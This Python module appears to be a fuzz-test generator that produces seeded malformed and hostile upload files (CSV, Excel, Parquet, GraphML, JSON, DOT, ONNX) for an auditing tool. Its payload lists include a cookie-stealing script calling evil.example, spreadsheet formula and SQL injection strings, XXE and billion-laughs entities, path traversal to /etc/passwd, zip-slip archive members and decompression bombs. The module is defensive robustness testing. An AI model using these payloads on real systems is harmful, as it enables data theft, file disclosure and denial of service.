"""Files that nobody means well with: each follows from its number and the seed alone."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Literal

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

Door = Literal["table", "knowledge", "model", "answers", "batch"]
Random = np.random.Generator
Maker = Callable[[Random], tuple[str, bytes]]

SEED = 21_000  # chosen before anything was run
_TEMPLATE = Path(__file__).resolve().parents[2] / "assets" / "sample.csv"
_MARKUP = (
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "![x](http://evil.example/a.png)",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    ":red[r] $\\frac{1}{0}$ **b** `c`",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1:1)",
    "'; DROP TABLE audits; --",
    "{{7*7}}${7*7}",
    "../../../../etc/passwd",
    "%s%s%n",
    "\x00\x01\x02\x1b[31mred\x07",
    "\u202egnp.exe\u2066\u2069",
    "\ufeff\u200b\u00ad",
    "Z" + "\u0301" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ud7ff\ue000\ufffe\uffff",
    "NaN",
    "NULL",
    "None",
    "inf",
    "-0",
    "",
)
_NUMBERS = (
    *("1e308", "-1e308", "1e309", "1e-400", "nan", "inf", "-inf", "9" * 400, "0x1F", "1_000", "1,5", "1.2.3", "--1"),
    *("9223372036854775808", "-9223372036854775809", "18446744073709551616", "1e99999999", "٣", "½", "1970-01-01"),
    *("9999-12-31", "0000-00-00", "-5000-01-01", "2020-13-45", "24:61:61", "1/0", "TRUE", "yes"),
)


@dataclass(frozen=True)
class Hostile:
    """A hostile file, and the door that it comes to."""

    number: int
    kind: str
    door: Door
    name: str
    content: bytes


def hostile(number: int, seed: int = SEED) -> Hostile:
    """The file of that number."""
    kinds = list(KINDS)
    kind = kinds[number % len(kinds)]
    door, make = KINDS[kind]
    name, content = make(np.random.default_rng((seed, number)))
    return Hostile(number, kind, door, name, content)


@cache
def _sample() -> pd.DataFrame:
    return pd.read_csv(_TEMPLATE)


def _people(rng: Random, most: int = 400) -> pd.DataFrame:
    rows = int(rng.integers(0, most))
    return _sample().iloc[rng.integers(0, len(_sample()), rows)].reset_index(drop=True)


def _csv(table: pd.DataFrame) -> bytes:
    return table.to_csv(index=False).encode("utf-8", "surrogatepass")


def _pick(rng: Random, values: tuple[str, ...]) -> str:
    return values[int(rng.integers(len(values)))]


def _suffix(rng: Random, *of: str) -> str:
    return f"table{_pick(rng, of or ('.csv', '.tsv', '.csv.gz', '.parquet', '.xlsx'))}"


# Tables as text


def _noise(rng: Random) -> tuple[str, bytes]:
    return _suffix(rng), rng.bytes(int(rng.integers(0, 20_000)))


def _flipped(rng: Random) -> tuple[str, bytes]:
    content = bytearray(_csv(_people(rng)))
    for place in rng.integers(0, max(1, len(content)), int(rng.integers(1, 200))):
        if content:
            content[place] = int(rng.integers(256))
    return "table.csv", bytes(content)


def _broken_encoding(rng: Random) -> tuple[str, bytes]:
    text = _people(rng).assign(word="Grüße " + _pick(rng, _MARKUP[:8])).to_csv(index=False)
    kind = _pick(rng, ("utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "shift_jis", "utf-7", "utf-8-sig"))
    content = text.encode(kind, "replace")
    bad = _pick(rng, ("\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\xf8\x88")).encode("latin-1")
    place = int(rng.integers(0, len(content) + 1))
    return "table.csv", content[:place] + bad * int(rng.integers(0, 4)) + content[place:]


def _byte_order_marks(rng: Random) -> tuple[str, bytes]:
    marks = (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00\x00\xfe\xff", b"\xef\xbb\xbf\xef\xbb\xbf")
    return "table.csv", marks[int(rng.integers(len(marks)))] + _csv(_people(rng))


def _open_quotes(rng: Random) -> tuple[str, bytes]:
    lines = _csv(_people(rng)).split(b"\n")
    for place in rng.integers(0, len(lines), int(rng.integers(1, 5))):
        lines[place] = lines[place][: len(lines[place]) // 2] + b'"' * int(rng.integers(1, 4)) + lines[place]
    return "table.csv", b"\n".join(lines)


def _ragged(rng: Random) -> tuple[str, bytes]:
    lines = [b",".join([b"1"] * int(rng.integers(0, 40))) for _ in range(int(rng.integers(1, 400)))]
    return "table.csv", _pick(rng, ("\n", "\r", "\r\n", "\n\r", "\v")).encode().join(lines)


def _wide(rng: Random) -> tuple[str, bytes]:
    columns, rows = int(rng.integers(2_000, 60_000)), int(rng.integers(1, 12))
    head = b",".join(b"c%d" % place for place in range(columns))
    return "table.csv", head + b"\n" + b"\n".join([b",".join([b"1"] * columns)] * rows)


def _long_names(rng: Random) -> tuple[str, bytes]:
    name = _pick(rng, ("a", "ä", "<b>", "# ", "|", "\u202e")) * int(rng.integers(100_000, 10_000_000 // 4))
    return "table.csv", _csv(_people(rng).rename(columns={"gender": name}))


def _long_cell(rng: Random) -> tuple[str, bytes]:
    table = _people(rng).astype(object)
    if len(table):
        table.iloc[0, int(rng.integers(table.shape[1]))] = "x" * int(rng.integers(1_000_000, 10_000_000))
    return "table.csv", _csv(table)


def _same_names(rng: Random) -> tuple[str, bytes]:
    table = _people(rng)
    names = [_pick(rng, ("a", "a", "b", "", " ", "a ", "A", "Unnamed: 0", "nan", "index")) for _ in table]
    return "table.csv", _csv(table.set_axis(names, axis=1))


def _markup(rng: Random) -> tuple[str, bytes]:
    table = _people(rng).astype(object)
    names = {name: _pick(rng, _MARKUP) + str(place) for place, name in enumerate(table) if rng.random() < 0.5}
    for place in range(table.shape[1]):
        if rng.random() < 0.4:
            table.isetitem(place, [_pick(rng, _MARKUP) for _ in range(len(table))])
    return f"{_pick(rng, _MARKUP)[:80]}.csv".replace("/", "_"), _csv(table.rename(columns=names))


def _groups_of_markup(rng: Random) -> tuple[str, bytes]:
    """People like any others, but for what their groups, labels and columns are called: these are shown everywhere."""
    table = _sample().iloc[rng.integers(0, len(_sample()), 300)].reset_index(drop=True)
    swap = {"female": _pick(rng, _MARKUP), "male": _pick(rng, _MARKUP)}
    table["gender"] = table["gender"].map(lambda value: swap.get(value, value))
    table["fraud"] = table["fraud"].map({"yes": _pick(rng, _MARKUP), "no": _pick(rng, _MARKUP)})
    return "people.csv", _csv(table.rename(columns={"region": _pick(rng, _MARKUP)}))


def _odd_numbers(rng: Random) -> tuple[str, bytes]:
    table = _sample().iloc[rng.integers(0, len(_sample()), int(rng.integers(100, 400)))].reset_index(drop=True)
    table = table.astype(object)
    for place in range(table.shape[1]):
        if rng.random() < 0.6:
            share = rng.random() ** 2
            cells = [_pick(rng, _NUMBERS) if rng.random() < share else cell for cell in table.iloc[:, place]]
            table.isetitem(place, cells)
    return "table.csv", _csv(table)


def _delimiters(rng: Random) -> tuple[str, bytes]:
    mark = _pick(rng, (";", "\t", "|", ",", ":", " ", "\x1f", "\x00", "ß", "::", "~"))
    return _suffix(rng, ".csv", ".tsv"), _csv(_people(rng)).replace(b",", mark.encode())


def _titles(rng: Random) -> tuple[str, bytes]:
    above = "\n".join(_pick(rng, _MARKUP) for _ in range(int(rng.integers(1, 50))))
    return "table.csv", above.encode("utf-8", "replace") + b"\n\n" + _csv(_people(rng))


def _one_line(rng: Random) -> tuple[str, bytes]:
    return "table.csv", _pick(rng, (",", '"', "\n", "\r", "a", "\x00", ",\n", '"\n', " ")).encode() * int(
        rng.integers(1, 3_000_000)
    )


def _long_file_name(rng: Random) -> tuple[str, bytes]:
    name = _pick(rng, _MARKUP).replace("\x00", "") * int(rng.integers(1, 200))
    return f"{name[:5000]}{_pick(rng, ('.csv', '.CSV', '.csv.csv', '. csv', '.csv/', '.parquet'))}", _csv(_people(rng))


# Packed, and other formats


def _gzip_bomb(rng: Random) -> tuple[str, bytes]:
    line = b"1,2,3\n" if rng.random() < 0.5 else b"\x00" * 6
    packed = gzip.compress(line * int(rng.integers(1_000_000, 15_000_000)), 9)
    return "table.csv.gz", gzip.compress(packed, 9) if rng.random() < 0.3 else packed


def _broken_gzip(rng: Random) -> tuple[str, bytes]:
    packed = bytearray(gzip.compress(_csv(_people(rng))))
    how = int(rng.integers(4))
    if how == 0:
        return "table.csv.gz", bytes(packed[: len(packed) // 2])
    if how == 1:
        return "table.csv.gz", bytes(packed) + rng.bytes(50)
    if how == 2:
        return "table.csv.gz", bz2.compress(_csv(_people(rng)))
    packed[-8:] = rng.bytes(8)
    return "table.csv.gz", bytes(packed)


def _workbook(table: pd.DataFrame, name: str = "Sheet") -> bytes:
    stream = io.BytesIO()
    with pd.ExcelWriter(stream, engine="openpyxl") as book:
        table.to_excel(book, sheet_name=name, index=False)
    return stream.getvalue()


@cache
def _small_workbook() -> bytes:
    return _workbook(_sample().head(120))


def _repacked(content: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, data in (more or {}).items():
            new.writestr(name, data)
    return stream.getvalue()


def _excel_bomb(rng: Random) -> tuple[str, bytes]:
    rows = int(rng.integers(100_000, 1_000_000))
    sheet = b"<row><c><v>1</v></c></row>" * rows
    begin = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'

    def change(name: str, data: bytes) -> bytes:
        return begin + sheet + b"</sheetData></worksheet>" if "sheet1.xml" in name else data

    return "book.xlsx", _repacked(_small_workbook(), change)


def _excel_entities(rng: Random) -> tuple[str, bytes]:
    """A billion laughs, or a file and an address that a parser might fetch."""
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (k, b"&l%d;" % (k - 1) * 10) for k in range(1, 10))
    outside = b'<!ENTITY l9 SYSTEM "%s">' % _pick(rng, ("file:///etc/passwd", "http://evil.example/x")).encode()
    head = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">' + (laughs if rng.random() < 0.5 else outside) + b"]>"

    def change(name: str, data: bytes) -> bytes:
        if not name.endswith(_pick(rng, ("sheet1.xml", "workbook.xml", "styles.xml", "sharedStrings.xml"))):
            return data
        return head + data.partition(b"?>")[2].replace(b"<v>", b"<v>&l9;", 1)

    return "book.xlsx", _repacked(_small_workbook(), change)


def _broken_excel(rng: Random) -> tuple[str, bytes]:
    content = bytearray(_small_workbook())
    how = int(rng.integers(5))
    if how == 0:
        content = content[: int(rng.integers(0, len(content)))]
    elif how == 1:
        for place in rng.integers(0, len(content), 40):
            content[place] = int(rng.integers(256))
    elif how == 2:
        return "book.xlsx", _repacked(bytes(content), lambda name, data: b"" if "workbook" in name else data)
    elif how == 3:
        more = {"../../../etc/cron.d/x": b"x", "/etc/passwd": b"x", "xl/worksheets/sheet1.xml": b"<x/>"}
        return "book.xlsx", _repacked(bytes(content), lambda _, data: data, more)
    else:
        lie = struct.pack("<I", int(rng.integers(2**32)))
        place = bytes(content).rfind(b"PK\x01\x02")
        content[place + 24 : place + 28] = lie  # the size that a member is said to have
    return "book.xlsx", bytes(content)


def _odd_excel(rng: Random) -> tuple[str, bytes]:
    table = _people(rng, 60).astype(object)
    for place in range(table.shape[1]):
        if rng.random() < 0.5 and len(table):
            words = [_pick(rng, (*_MARKUP[:13], *_NUMBERS)) for _ in range(len(table))]
            table.isetitem(place, words)
    return "book.xlsx", _workbook(table, _pick(rng, ("=1+1", "<b>", "ä" * 31, "'", "Sheet 1")))


def _nested(rng: Random) -> tuple[str, bytes]:
    content = _csv(_people(rng))
    for depth in range(int(rng.integers(1, 12))):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{depth}.zip" if depth else "table.csv", content)
        content = stream.getvalue()
    return _suffix(rng), content


@cache
def _small_parquet() -> bytes:
    stream = io.BytesIO()
    _sample().to_parquet(stream, row_group_size=100)
    return stream.getvalue()


def _broken_parquet(rng: Random) -> tuple[str, bytes]:
    content = bytearray(_small_parquet())
    footer = len(content) - 8 - struct.unpack("<I", content[-8:-4])[0]
    how = int(rng.integers(5))
    if how == 0:
        content = content[: int(rng.integers(0, len(content)))]
    elif how == 1:
        content[-8:-4] = struct.pack("<I", int(rng.integers(2**32)))
    else:
        low, high = (footer, len(content) - 8) if how == 2 else (4, footer) if how == 3 else (0, len(content))
        for place in rng.integers(low, high, int(rng.integers(1, 30))):
            content[place] = int(rng.integers(256))
    return "table.parquet", bytes(content)


def _odd_parquet(rng: Random) -> tuple[str, bytes]:
    rows = int(rng.integers(0, 300))
    kinds: tuple[Callable[[], pa.Array], ...] = (
        lambda: pa.array([[1, 2]] * rows),
        lambda: pa.array([{"a": 1, "b": "x"}] * rows),
        lambda: pa.array([b"\xff\x00"] * rows, pa.binary()),
        lambda: pa.nulls(rows),
        lambda: pa.array(rng.random(rows).tolist(), pa.float64()).cast(pa.float16()),
        lambda: pa.array([2**62] * rows, pa.int64()).cast(pa.timestamp("ns")),
        lambda: pa.array([-(2**62)] * rows, pa.int64()).cast(pa.timestamp("us")),  # Parquet knows no seconds
        lambda: pa.array(["x", "y"] * (rows // 2) + ["x"] * (rows % 2)).dictionary_encode(),
        lambda: pa.array([float("nan"), float("inf")] * (rows // 2) + [1.0] * (rows % 2)),
        lambda: pa.array([10**37] * rows, pa.decimal128(38, 0)),
        lambda: pa.array([2**64 - 1] * rows, pa.uint64()),
        lambda: pa.array([True, None] * (rows // 2) + [None] * (rows % 2)),
        lambda: pa.array([1] * rows, pa.duration("ns")),
        lambda: pa.array([1] * rows, pa.time64("us")),
        lambda: pa.array([_pick(rng, _MARKUP) for _ in range(rows)]),
    )
    count = int(rng.integers(1, 12))
    arrays = [kinds[int(rng.integers(len(kinds)))]() for _ in range(count)]
    names = [_pick(rng, ("a", "b", "gender", "fraud", "", " ", *_MARKUP[:6])) + str(k % 3) for k in range(count)]
    stream = io.BytesIO()
    pq.write_table(pa.table(arrays, names=names), stream)
    return "table.parquet", stream.getvalue()


def _parquet_bomb(rng: Random) -> tuple[str, bytes]:
    count = int(rng.integers(10_000_000, 60_000_000))
    codes = pa.array(np.zeros(count, np.int8))
    column = pa.DictionaryArray.from_arrays(codes, pa.array(["x" * int(rng.integers(1, 2_000))]))
    stream = io.BytesIO()
    pq.write_table(pa.table({"a": column, "b": column}), stream, compression="zstd")
    return "table.parquet", stream.getvalue()


def _polyglot(rng: Random) -> tuple[str, bytes]:
    heads = (b"%PDF-1.7\n", b"GIF89a", b"\x7fELF", b"MZ", b"PK\x03\x04", b"PAR1", b"\x1f\x8b\x08", b"<html><script>")
    parts = [heads[int(rng.integers(len(heads)))], _csv(_people(rng)), _small_workbook(), _small_parquet()]
    rng.shuffle(parts)
    return _suffix(rng), b"".join(parts[: int(rng.integers(2, 5))])


def _wrong_suffix(rng: Random) -> tuple[str, bytes]:
    contents = (_csv(_people(rng)), _small_workbook(), _small_parquet(), gzip.compress(_csv(_people(rng))), b"{}")
    return _suffix(rng), contents[int(rng.integers(len(contents)))]


# Graphs and domain knowledge


_GRAPHML = (
    '<?xml version="1.0"?>{doctype}<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
    '<graph edgedefault="directed">{nodes}{edges}</graph></graphml>'
)


def _graphml(rng: Random) -> tuple[str, bytes]:
    names = [*_sample().columns, *_MARKUP]
    count = int(rng.integers(0, 60))
    chosen = [names[int(rng.integers(len(names)))] for _ in range(count)]
    nodes = "".join(f'<node id="{name}"/>' for name in chosen)
    edges = "".join(
        f'<edge source="{chosen[int(rng.integers(count))]}" target="{chosen[int(rng.integers(count))]}"/>'
        for _ in range(int(rng.integers(0, 200)) if count else 0)
    )
    laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 10))
    outside = '<!ENTITY l9 SYSTEM "http://evil.example/x">'
    doctypes = ("", f'<!DOCTYPE g [<!ENTITY l0 "ha">{laughs}]>', f"<!DOCTYPE g [{outside}]>")
    text = _GRAPHML.format(doctype=_pick(rng, doctypes), nodes=nodes, edges=edges)
    return "graph.graphml", text.encode("utf-8", "replace")


def _json(rng: Random) -> tuple[str, bytes]:
    deep = int(rng.integers(10, 200_000))
    texts = (
        "[" * deep,
        "[" * deep + "]" * deep,
        '{"a":' * deep + "1" + "}" * deep,
        json.dumps({"roots": [_pick(rng, _MARKUP)] * 50, "tiers": [["age"], ["age"]]}),
        json.dumps({"forbidden": [["age", "age"], ["a"]], "required": "gender"}),
        json.dumps({"nodes": [_pick(rng, _MARKUP)], "edges": [["age", "income"], ["income", "age"]]}),
        '{"required": [[1, 2], [null, {}]], "complete": "yes"}',
        '{"a": NaN, "b": 1e999999, "c": ' + "9" * 100_000 + "}",
        '{"a": "\\ud800"}',
        json.dumps({name: value for value, name in enumerate(_MARKUP)}),
        "null",
        "1",
        '""',
    )
    return "knowledge.json", _pick(rng, texts).encode("utf-8", "surrogatepass")


def _dot(rng: Random) -> tuple[str, bytes]:
    names = [*_sample().columns, *_MARKUP]
    pairs = [(names[int(rng.integers(len(names)))], names[int(rng.integers(len(names)))]) for _ in range(40)]
    body = ";".join(f'"{a}" -> "{b}" [label="{_pick(rng, _MARKUP)}"]' for a, b in pairs)
    nest = "subgraph x {" * int(rng.integers(0, 20_000))
    text = _pick(rng, (f"digraph {{{body}}}", f"digraph {{{nest}{body}", f"graph {{{body.replace('->', '--')}}}", body))
    return _pick(rng, ("graph.dot", "graph.gv")), text.encode("utf-8", "replace")


def _edges(rng: Random) -> tuple[str, bytes]:
    kinds = (_noise, _ragged, _open_quotes, _markup, _broken_encoding, _one_line)
    _, content = kinds[int(rng.integers(len(kinds)))](rng)
    return _pick(rng, ("edges.csv", "graph.graphml", "knowledge.json", "graph.dot")), content[:4_000_000]


# Models, scores and batches of an audit that waits for them


def _field(number: int, content: bytes) -> bytes:
    """A field of Protocol Buffers."""
    size, said = len(content), b""
    while size > 127:
        said += bytes([size & 127 | 128])
        size >>= 7
    return bytes([number << 3 | 2]) + said + bytes([size]) + content


def _model(rng: Random) -> tuple[str, bytes]:
    graph = _field(2, _pick(rng, _MARKUP).encode("utf-8", "replace"))
    for _ in range(int(rng.integers(0, 6))):
        inside = _field(4, _pick(rng, ("Identity", "If", "Loop", "Abs", "Evil")).encode()) + _field(1, b"X")
        graph += _field(1, inside + _field(2, b"Y"))
    outside = _field(13, _field(1, b"location") + _field(2, _pick(rng, ("/etc/passwd", "../x")).encode()))
    graph += _field(5, outside) if rng.random() < 0.5 else b""
    for k in (11, 12):
        graph += _field(k, _field(1, b"X" if k == 11 else b"Y"))
    content = bytearray(b"\x08\x08" + _field(2, _pick(rng, _MARKUP).encode("utf-8", "replace")) + _field(7, graph))
    how = int(rng.integers(4))
    if how == 0:
        content = bytearray(rng.bytes(int(rng.integers(0, 50_000))))
    elif how == 1:
        for place in rng.integers(0, len(content), 5):
            content[place] = int(rng.integers(256))
    elif how == 2:
        deep = b""
        for _ in range(int(rng.integers(10, 3_000))):
            deep = _field(7, deep)[:2_000_000]
        content += deep
    return "model.onnx", bytes(content)


def _answers(rng: Random) -> tuple[str, bytes]:
    rows = int(rng.integers(0, 900))
    ids = [_pick(rng, (str(k), str(k), str(k), "", "x", "-1", "1e9", _MARKUP[0])) for k in range(rows)]
    scores = [_pick(rng, (*_NUMBERS, "0.5", "0.5", "0.5", _MARKUP[1])) for _ in range(rows)]
    table = pd.DataFrame({_pick(rng, ("row_id", "id", _MARKUP[2])): ids, _pick(rng, ("score", "flag", "x")): scores})
    return "scores.csv", _csv(table)


def _any_table(rng: Random) -> tuple[str, bytes]:
    makers = [make for door, make in KINDS.values() if door == "table" and make not in (_gzip_bomb, _parquet_bomb)]
    return makers[int(rng.integers(len(makers)))](rng)


KINDS: dict[str, tuple[Door, Maker]] = {
    "noise": ("table", _noise),
    "bytes flipped": ("table", _flipped),
    "broken encoding": ("table", _broken_encoding),
    "byte order marks": ("table", _byte_order_marks),
    "quotes never closed": ("table", _open_quotes),
    "ragged rows": ("table", _ragged),
    "very many columns": ("table", _wide),
    "a name of megabytes": ("table", _long_names),
    "a cell of megabytes": ("table", _long_cell),
    "names that are the same": ("table", _same_names),
    "markup and formulas": ("table", _markup),
    "groups named by markup": ("table", _groups_of_markup),
    "odd numbers and dates": ("table", _odd_numbers),
    "odd delimiters": ("table", _delimiters),
    "titles of markup": ("table", _titles),
    "one character, a million times": ("table", _one_line),
    "odd names of the file": ("table", _long_file_name),
    "gzip bomb": ("table", _gzip_bomb),
    "broken gzip": ("table", _broken_gzip),
    "Excel bomb": ("table", _excel_bomb),
    "XML entities in Excel": ("table", _excel_entities),
    "broken Excel": ("table", _broken_excel),
    "odd Excel": ("table", _odd_excel),
    "nested archives": ("table", _nested),
    "broken Parquet": ("table", _broken_parquet),
    "odd Parquet": ("table", _odd_parquet),
    "Parquet bomb": ("table", _parquet_bomb),
    "two formats at once": ("table", _polyglot),
    "another format than its name says": ("table", _wrong_suffix),
    "GraphML": ("knowledge", _graphml),
    "JSON": ("knowledge", _json),
    "DOT": ("knowledge", _dot),
    "tables as graphs": ("knowledge", _edges),
    "ONNX": ("model", _model),
    "scores": ("answers", _answers),
    "tables as scores": ("answers", _any_table),
    "tables as batches": ("batch", _any_table),
}
